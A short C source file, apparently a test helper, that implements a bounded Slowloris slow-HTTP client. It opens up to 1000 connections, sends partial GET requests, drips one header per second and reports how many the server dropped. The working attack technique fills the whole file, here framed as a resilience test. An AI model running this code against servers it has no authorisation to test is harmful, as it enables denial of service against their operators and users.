// SPDX-License-Identifier: GPL-2.0
/*
 * sg_slowloris: a hostile local user's slow HTTP client, bounded. Opens
 * COUNT connections to ADDR PORT (IPv4), sends each the start of a GET,
 * then one more header field every second, never ending the request, and
 * closes them all after SECONDS. Prints "open=N closed=N": connections
 * still open at the end, and those the server closed (or refused) before.
 * Exits 0 whenever it ran; the caller judges the counts.
 *
 * Usage: sg_slowloris ADDR PORT COUNT SECONDS
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define MAX_COUNT   1000
#define MAX_SECONDS 60
#define START	    "GET /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\n"
#define DRIP	    "X-Slow: a\r\n"

static long arg(const char *s, long max)
{
	char *end;
	long v = strtol(s, &end, 10);

	if (*end || v < 1 || v > max) {
		fprintf(stderr, "sg_slowloris: '%s': expected 1 to %ld\n", s, max);
		exit(2);
	}
	return v;
}

/* Whether fd is still open at the server's end: a send that fails, or EOF, says not. */
static int drip(int fd, const char *s)
{
	char c;

	if (send(fd, s, strlen(s), MSG_NOSIGNAL | MSG_DONTWAIT) < 0 && errno != EAGAIN)
		return 0;
	return recv(fd, &c, 1, MSG_DONTWAIT) < 0 && errno == EAGAIN;
}

int main(int argc, char **argv)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	int fds[MAX_COUNT];
	long n, secs, i, t, open = 0;

	if (argc != 5 || inet_pton(AF_INET, argv[1], &a.sin_addr) != 1) {
		fprintf(stderr, "usage: sg_slowloris ADDR PORT COUNT SECONDS\n");
		return 2;
	}
	a.sin_port = htons((unsigned short)arg(argv[2], 65535));
	n = arg(argv[3], MAX_COUNT);
	secs = arg(argv[4], MAX_SECONDS);
	for (i = 0; i < n; i++) {
		fds[i] = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
		if (fds[i] >= 0 && connect(fds[i], (struct sockaddr *)&a, sizeof(a))) {
			close(fds[i]);
			fds[i] = -1;
		}
		if (fds[i] >= 0 && !drip(fds[i], START)) {
			close(fds[i]);
			fds[i] = -1;
		}
	}
	for (t = 0; t < secs; t++) {
		sleep(1);
		for (i = 0; i < n; i++) {
			if (fds[i] >= 0 && !drip(fds[i], DRIP)) {
				close(fds[i]);
				fds[i] = -1;
			}
		}
	}
	for (i = 0; i < n; i++) {
		if (fds[i] >= 0) {
			open++;
			close(fds[i]);
		}
	}
	printf("open=%ld closed=%ld\n", open, n - open);
	return 0;
}
